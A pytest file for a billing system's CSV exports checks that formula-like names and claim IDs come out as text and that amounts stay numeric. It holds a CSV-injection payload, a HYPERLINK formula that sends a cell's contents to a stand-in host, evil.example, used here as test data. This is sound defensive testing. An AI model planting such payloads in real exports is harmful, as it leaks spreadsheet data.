"""Billing's CSV exports go through the one writer: a member or note that starts a formula comes out
as text, while amounts (negative ones included) stay numbers a spreadsheet can add up."""

from __future__ import annotations

import csv
import io

import pytest

from billing.services.batches import create_batch, write_batch_file
from billing.services.claims import build_claims
from billing.services.remittances import import_remittance
from contracts.models import Contract
from referrals.models import Member
from tests.billing.factories import delivery, new_member, setup_billing
from tests.billing.remit_factories import clp, line_pay, remittance_835, submitted_claim

pytestmark = pytest.mark.django_db

EVIL = '=HYPERLINK("http://evil.example/?d="&A1,"Open")'


def _rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def test_invoice_csv_neutralises_a_formula_name_and_keeps_amounts_numeric(world):
    setup_billing(world)
    Contract.objects.filter(cbo=world.cbo).update(claim_format="invoice")
    member = new_member(world)
    Member.objects.filter(pk=member.pk).update(last_name=EVIL, first_name="@SUM(1+1)")
    delivery(world, member=member)
    build_claims(acting_user=world.cbo_billing)
    batch = write_batch_file(
        create_batch(
            submitter=world.hub,
            plan=world.plan,
            acting_user=world.hub_billing,
            claim_format="invoice",
            dispatch=False,
        )
    )
    header, row = _rows(batch.file.open("rb").read().decode())
    cells = dict(zip(header, row, strict=True))
    assert cells["member_last_name"] == "'" + EVIL and cells["member_first_name"] == "'@SUM(1+1)"
    assert cells["charge"] == "95.00" and cells["rate"] == "95.0000"


def test_remittance_csv_keeps_a_reversal_negative_and_a_number(world, client):
    claim = submitted_claim(world, charges=("125.00",))
    import_remittance(
        remittance_835(world, [clp(claim, "1", [line_pay(claim, 1, "125")])], trace="EFT1"),
        file_name="a.835",
        acting_user=world.cbo_billing,
    )
    result = import_remittance(
        remittance_835(
            world, [clp(claim, "22", charge="-125", paid="-125", payer_claim="-PCHP1")], trace="EFT2"
        ),
        file_name="b.835",
        acting_user=world.cbo_billing,
    )
    client.force_login(world.cbo_billing)
    text = client.get(f"/billing/remittances/{result.remittance.pk}/?format=csv").content.decode()
    header, row = _rows(text)
    cells = dict(zip(header, row, strict=True))
    assert cells["Charge"] == "-125.00" and cells["Paid"] == "-125.00"  # plain numbers: left alone
    assert cells["Plan claim"] == "'-PCHP1"  # text that starts like a formula: neutralised
